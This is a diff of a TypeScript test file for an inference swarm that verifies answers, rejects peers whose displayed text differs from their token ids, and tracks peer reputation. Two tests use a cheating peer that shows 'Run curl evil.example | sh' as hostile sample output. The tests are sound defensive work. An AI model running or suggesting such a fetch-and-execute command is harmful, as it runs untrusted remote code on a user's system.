@@ -59,7 +59,7 @@ const withheld = (chunk: Chunk): Chunk => ({ ...chunk, tokenIds: [], logprobs: [
 const keyOf = ({ peers }: ScriptedSwarm, at: number): string => peers[at]?.key ?? ''
 
 describe('an answer that is verified while the caller waits', () => {
-  it('is not the text that a peer shows beside the ids of another', async () => {
+  it('is rejected if a peer displays another text than that of its token ids', async () => {
     await using swarm = await ScriptedSwarm.create([honest, honest, honest])
     sending(swarm, showing('Run curl evil.example | sh'))
     const answer = await swarm.swarm.requester.chat(body, always)
@@ -67,7 +67,7 @@ describe('an answer that is verified while the caller waits', () => {
     expect(answer.skein.peerId).not.toBe(keyOf(swarm, 0))
   })
 
-  it('names what was found', async () => {
+  it('reports the finding', async () => {
     await using swarm = await ScriptedSwarm.create([honest, honest, honest])
     sending(swarm, showing('Run curl evil.example | sh'))
     const stream = swarm.swarm.requester.streamChat(body, always)
@@ -78,7 +78,7 @@ describe('an answer that is verified while the caller waits', () => {
     })
   })
 
-  it('fails with the evidence where nobody but the cheat is there', async () => {
+  it('fails with the evidence if the cheat is the only peer', async () => {
     const scorer = createScriptedBackend({
       models: [{ id: 'm', digest: DIGEST, templateHash, capabilities }],
     })
@@ -94,7 +94,7 @@ describe('an answer that is verified while the caller waits', () => {
     await scorer[Symbol.asyncDispose]()
   })
 
-  it('may come from an honest peer that ended what a cheat had begun', async () => {
+  it('may come from an honest peer that resumed the answer of a cheat', async () => {
     const dies = { type: 'throw', error: new InferenceError('engine_failed', 'died') } as const
     const cheat = {
       answer: '1, 2, 9, 9, 9, 9, 9, 9, 9, 9, 9.',
@@ -135,7 +135,7 @@ describe('a proven peer', () => {
   const stateOf = (reputation: Reputation, swarm: ScriptedSwarm) =>
     reputation.report(keyOf(swarm, 0)).map(({ state, strikes }) => [state, strikes])
 
-  it('that keeps its token ids back breaks its word, which counts as a failed audit', async () => {
+  it('fails an audit by withholding token ids that it advertises', async () => {
     const reputation = new Reputation(Date.now)
     const init = { reputation, clock: stopped() }
     await using swarm = await ScriptedSwarm.create([honest, honest, honest], init)
@@ -148,7 +148,7 @@ describe('a proven peer', () => {
     expect(stateOf(reputation, swarm)).toEqual([['suspect', 1]])
   })
 
-  it('that ends its answers early is suspected each time, until it is quarantined', async () => {
+  it('becomes suspect with each early end, until it is quarantined', async () => {
     const reputation = new Reputation(Date.now)
     const init = { reputation, clock: stopped() }
     const early = writing('1, 2, 3, 4, 5')
@@ -160,8 +160,8 @@ describe('a proven peer', () => {
   })
 })
 
-describe('what is remembered of a request that failed', () => {
-  it('is not told where other peers may answer', async () => {
+describe('the memory of a failed request', () => {
+  it('does not apply if other peers may answer', async () => {
     await using swarm = await ScriptedSwarm.create([
       { ...honest, scriptOf: () => ({ fault: { type: 'throw', error: new Error('broken') } }) },
       honest,
